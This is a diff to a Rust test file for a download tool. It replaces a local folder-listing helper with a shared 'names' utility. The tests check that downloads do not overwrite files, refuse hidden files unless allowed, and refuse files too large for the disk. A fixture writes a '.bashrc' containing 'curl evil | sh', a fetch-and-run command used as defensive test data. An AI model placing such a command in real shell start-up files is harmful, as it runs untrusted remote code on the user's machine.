@@ -5,7 +5,7 @@ use std::path::{Path, PathBuf};
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
-use crate::util::{Server, data};
+use crate::util::{Server, data, names};
 
 async fn get(link: &str, out: &Path, state: &Path) -> (bool, String) {
     crate::util::get_cli(link, out, state, false).await
@@ -258,20 +258,6 @@ async fn lying_server(name: &str, claimed: &[u8], body: &[u8]) -> String {
     link
 }
 
-/// The names in a folder, hidden ones included.
-fn listing(dir: &Path) -> Vec<String> {
-    let mut names: Vec<String> = std::fs::read_dir(dir)
-        .map(|entries| {
-            entries
-                .flatten()
-                .map(|e| e.file_name().to_string_lossy().into_owned())
-                .collect()
-        })
-        .unwrap_or_default();
-    names.sort();
-    names
-}
-
 #[tokio::test]
 async fn get_never_replaces_a_file_and_refuses_hidden_ones_unless_asked() {
     let dir = tempfile::tempdir().expect("tempdir");
@@ -295,7 +281,7 @@ async fn get_never_replaces_a_file_and_refuses_hidden_ones_unless_asked() {
     // A rerun finds the copy it placed: nothing new.
     let (ok, output) = get(&link, &out, &dir.path().join("client")).await;
     assert!(ok, "{output}");
-    assert_eq!(listing(&out), ["notes (1).txt", "notes.txt"]);
+    assert_eq!(names(&out), ["notes (1).txt", "notes.txt"]);
 
     // A hidden file (a shell's start-up file, fetched into a home folder) is refused…
     let hidden = server.create(&[(".bashrc", b"curl evil | sh")], &[]).await;
@@ -303,7 +289,7 @@ async fn get_never_replaces_a_file_and_refuses_hidden_ones_unless_asked() {
     let home = dir.path().join("home");
     let (ok, output) = get(&link, &home, &dir.path().join("client")).await;
     assert!(!ok && output.contains("--allow-hidden"), "{output}");
-    assert!(listing(&home).is_empty(), "{:?}", listing(&home));
+    assert!(names(&home).is_empty(), "{:?}", names(&home));
     // …unless asked for.
     let (ok, output) = crate::util::get_cli_extra(
         &link,
@@ -315,7 +301,7 @@ async fn get_never_replaces_a_file_and_refuses_hidden_ones_unless_asked() {
     )
     .await;
     assert!(ok, "{output}");
-    assert_eq!(listing(&home), [".bashrc"]);
+    assert_eq!(names(&home), [".bashrc"]);
     server.stop().await;
 }
 
@@ -370,7 +356,7 @@ async fn a_size_no_disk_holds_is_refused_before_anything_is_written() {
             !ok && output.contains("not enough free disk space"),
             "{output}"
         );
-        assert!(listing(&out).is_empty(), "{:?}", listing(&out));
+        assert!(names(&out).is_empty(), "{:?}", names(&out));
     }
 }
 
